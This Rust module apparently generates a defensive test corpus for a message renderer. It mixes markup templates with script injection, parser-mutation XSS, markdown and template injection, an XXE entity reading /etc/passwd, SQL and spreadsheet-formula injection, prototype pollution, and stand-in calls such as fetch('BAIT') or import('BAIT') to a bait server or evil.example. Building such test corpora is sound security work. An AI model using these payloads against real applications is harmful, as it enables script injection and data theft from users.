//! What somebody writes who wants more of a message than that it be read.
//!
//! Everything here is made from a few hundred known beginnings, each with what it would do if it
//! could: say that it ran, ask another machine, call the program. None of them may become more
//! than letters.

/// What a payload tries to do. `BAIT` stands for a server that must never be asked.
const ACTS: &[&str] = &[
    "__ran(1)",
    "alert(1)",
    "document.title='owned'",
    "fetch('BAIT')",
    "new Image().src='BAIT'",
    "location='BAIT'",
    "__TAURI_INTERNALS__.invoke('planted')",
    "import('BAIT')",
];

/// Markup that acts by itself. `ACT` stands for the act.
const ACTING: &[&str] = &[
    "<script>ACT</script>",
    "<SCRIPT SRC=BAIT></SCRIPT>",
    "<img src=x onerror=\"ACT\">",
    "<img/src=`x`onerror=ACT>",
    "<svg onload=ACT>",
    "<svg/onload=\"ACT\"/>",
    "<svg><script>ACT</script></svg>",
    "<svg><animate onbegin=ACT attributeName=x dur=1s>",
    "<svg><set onbegin=ACT attributename=x>",
    "<svg><a xlink:href=\"javascript:ACT\"><text y=1em>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=ACT>#x\"/></svg>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:ACT\">x</maction></math>",
    "<body onload=ACT>",
    "<body onpageshow=ACT>",
    "<details open ontoggle=\"ACT\"><summary>x</summary></details>",
    "<video><source onerror=ACT></video>",
    "<video src=x onerror=ACT autoplay></video>",
    "<audio src onloadstart=ACT>",
    "<iframe src=\"javascript:ACT\"></iframe>",
    "<iframe srcdoc=\"<script>parent.ACT</script>\"></iframe>",
    "<iframe onload=ACT></iframe>",
    "<object data=\"javascript:ACT\"></object>",
    "<embed src=\"javascript:ACT\">",
    "<form action=\"javascript:ACT\"><input type=submit autofocus onfocus=ACT></form>",
    "<input autofocus onfocus=ACT>",
    "<select autofocus onfocus=ACT><option>x</select>",
    "<textarea autofocus onfocus=ACT>",
    "<button autofocus onfocus=ACT>x</button>",
    "<marquee onstart=ACT>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=javascript:ACT\">",
    "<link rel=stylesheet href=BAIT onerror=ACT>",
    "<link rel=import href=BAIT>",
    "<base href=BAIT><script src=x></script>",
    "<style>@import 'BAIT';</style>",
    "<style>*{background:url(BAIT)}</style>",
    "<style onload=ACT></style>",
    "<div style=\"background:url(BAIT)\" onmouseenter=ACT>x</div>",
    "<p onpointerrawupdate=ACT style=position:fixed;inset:0>x</p>",
    "<x onanimationstart=ACT style=animation:spin>",
    "<x tabindex=1 autofocus onfocusin=ACT>x</x>",
    "<a href=\"javascript:ACT\" ping=BAIT>x</a>",
    "<img src=BAIT>",
    "<img srcset=\"BAIT 1x\" loading=eager>",
    "<picture><source srcset=BAIT><img></picture>",
    "<template><script>ACT</script></template>",
    "<dialog open onclose=ACT>x</dialog>",
    "<slot onslotchange=ACT></slot>",
    "<isindex type=image src=1 onerror=ACT>",
    "<keygen autofocus onfocus=ACT>",
    "\"><img src=x onerror=ACT>",
    "'><svg onload=ACT>",
    "</textarea><script>ACT</script>",
    "</title><script>ACT</script>",
    "</style><script>ACT</script>",
    "--><script>ACT</script>",
    "]]><script>ACT</script>",
    "\" autofocus onfocus=ACT x=\"",
    "' onmouseover='ACT",
    "` onfocus=ACT tabindex=1 autofocus `",
];

/// Markup that changes its meaning when it is read and written again.
pub const MUTATING: &[&str] = &[
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__ran(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=__ran(1)></style></annotation-xml></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=__ran(1)>\">",
    "<svg><foreignObject><style><!--</style><img src=x onerror=__ran(1)>--></foreignObject></svg>",
    "<svg><desc><style><img src=x onerror=__ran(1)></style></desc></svg>",
    "<svg><title><style><img src=x onerror=__ran(1)></style></title></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=__ran(1)>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__ran(1)>",
    "<table><td><svg><desc><td></desc><script>__ran(1)</script></svg></table>",
    "<math><mi//xlink:href=\"data:x,<script>__ran(1)</script>\">",
    "<listing>&lt;img src=1 onerror=__ran(1)&gt;</listing>",
    "<xmp><img src=x onerror=__ran(1)></xmp>",
    "<plaintext><img src=x onerror=__ran(1)>",
    "<select><template><img src=x onerror=__ran(1)></template></select>",
    "<select><style><img src=x onerror=__ran(1)></style></select>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:__ran(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><animateTransform onrepeat=__ran(1) attributeName=transform repeatCount=2>",
    "<svg><set attributeName=href to=javascript:__ran(1)><a>x</a></svg>",
    "<svg><script href=data:,__ran(1) /></svg>",
    "<svg><image href=x onerror=__ran(1) /></svg>",
    "<svg><style>{-o-link-source:'<body/onload=__ran(1)>'}</style></svg>",
    "<math href=\"javascript:__ran(1)\">x</math>",
    "<math><mrow xlink:type=simple xlink:href=javascript:__ran(1)>x</mrow></math>",
    "<math><semantics><annotation-xml encoding=application/xhtml+xml><script>__ran(1)</script></annotation-xml></semantics></math>",
    "<a><table><a href=javascript:__ran(1)>x",
    "<b><style><b title=\"</style><img src onerror=__ran(1)>\">",
    "<!--><img src=x onerror=__ran(1)>-->",
    "<![CDATA[<img src=x onerror=__ran(1)>]]>",
    "<?xml-stylesheet href=\"javascript:__ran(1)\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
];

/// Blocks whose label or content some program would read as more than text.
pub const BLOCKS: &[&str] = &[
    "```<img src=x onerror=__ran(1)>\nx\n```",
    "```html\" onmouseover=\"__ran(1)\n<script>__ran(1)</script>\n```",
    "```js\n</code></pre><script>__ran(1)</script>\n```",
    "~~~<svg/onload=__ran(1)>\nx\n~~~",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=__ran(1)>\"]-->B; click A \"javascript:__ran(1)\"\n```",
    "```math\n\\href{javascript:__ran(1)}{x}\n```",
    "$$\\href{javascript:__ran(1)}{x}$$",
    "$\\htmlData{x=1\" onload=__ran(1)}{x}$",
    "| <img src=x onerror=__ran(1)> | x |\n|---|---|\n| <svg onload=__ran(1)> | [y](javascript:__ran(1)) |",
    "`<script>__ran(1)</script>`",
    "    <script>__ran(1)</script>",
    "> <img src=x onerror=__ran(1)>",
    "# <svg onload=__ran(1)>",
    "- [ ] <img src=x onerror=__ran(1)>\n- [x] <script>__ran(1)</script>",
    "1. <iframe src=javascript:__ran(1)>",
    "x[^1]\n\n[^1]: <script>__ran(1)</script>",
    "x\n: <script>__ran(1)</script>",
    "*[x]: <script>__ran(1)</script>",
    "<details>\n<summary onclick=__ran(1)>x</summary>\n\n<script>__ran(1)</script>\n</details>",
    "---\ntitle: <script>__ran(1)</script>\n---\nx",
    "{% raw %}<script>__ran(1)</script>{% endraw %}",
    "{{constructor.constructor('__ran(1)')()}}",
    "${__ran(1)}",
    "#{__ran(1)}",
    "<%= __ran(1) %>",
    "{@html '<img src=x onerror=__ran(1)>'}",
    "{#if __ran(1)}{/if}",
    ":tada\" onload=\"__ran(1):",
    "@liwei<script>__ran(1)</script>",
    "@all\" onclick=\"__ran(1)",
    "#Falcon<img src=x onerror=__ran(1)>",
    "/me <script>__ran(1)</script>",
];

/// Addresses that must not be followed by looking at them, nor by pressing them.
const ADDRESSES: &[&str] = &[
    "javascript:__ran(1)",
    "JaVaScRiPt:__ran(1)",
    "javascript&colon;__ran(1)",
    "&#106;avascript:__ran(1)",
    "&#x6A;&#x61;vascript:__ran(1)",
    "java\tscript:__ran(1)",
    "javascript://%0a__ran(1)",
    "\u{1}javascript:__ran(1)",
    "vbscript:__ran(1)",
    "data:text/html,<script>__ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=__ran(1)>",
    "blob:https://example.com/1",
    "file:///etc/passwd",
    "about:blank",
    "tauri://localhost/index.html",
    "ipc://localhost/planted",
    "asset://localhost/etc/passwd",
    "tokenim://sign_out",
    "BAIT",
    "//evil.example/x",
    "https:evil.example",
    "https://user@evil.example",
    "https://\u{202e}moc.elpmaxe",
];

/// Markdown that makes a link or a picture of an address.
const LINKS: &[&str] = &[
    "![x](AT)",
    "[x](<AT>)",
    "[x]: AT\n\n[x]",
    "[![x](AT)](AT)",
    "<AT>",
];

/// Letters that are not what they look like, and others that no letter is.
const LETTERS: &[&str] = &[
    "\u{202e}gpj.exe\u{202c}",
    "\u{2066}\u{2067}\u{2068}unbalanced",
    "a\u{0}b",
    "\u{feff}\u{fffe}\u{ffff}",
    "\u{2028}__ran(1)\u{2029}",
    "Z̴̡̛a̵̢͝l̶̨͠g̷̡͝o",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;owned\u{7}",
    "\r\nInjected: header",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE message; --",
    "%00%0a%0d<script>__ran(1)</script>",
    "＜script＞__ran(1)＜/script＞",
    "‹script›__ran(1)‹/script›",
    "\u{e0001}\u{e0061}tagged",
    "{\"__proto__\":{\"polluted\":1}}",
    "__proto__[polluted]=1",
    "constructor.prototype.polluted",
    "𝓌𝑒𝒾𝓇𝒹 letters ﷽﷽﷽",
];

/// All of them, aimed at a server that counts.
pub fn all(bait: &str) -> Vec<String> {
    let mut payloads: Vec<String> = Vec::new();
    for (number, acting) in ACTING.iter().enumerate() {
        // Every markup with most of the acts; which ones are left out moves along.
        for turn in 0..6 {
            let act = ACTS[(number + turn) % ACTS.len()];
            payloads.push(acting.replace("ACT", act));
        }
    }
    payloads.extend(
        MUTATING
            .iter()
            .chain(BLOCKS)
            .chain(LETTERS)
            .map(|text| (*text).to_owned()),
    );
    for address in ADDRESSES {
        payloads.extend(LINKS.iter().map(|link| link.replace("AT", address)));
    }
    let mut payloads: Vec<String> = payloads
        .into_iter()
        .map(|payload| payload.replace("BAIT", bait))
        .collect();
    payloads.sort();
    payloads.dedup();
    assert!(payloads.len() >= 500, "only {}", payloads.len());
    payloads
}
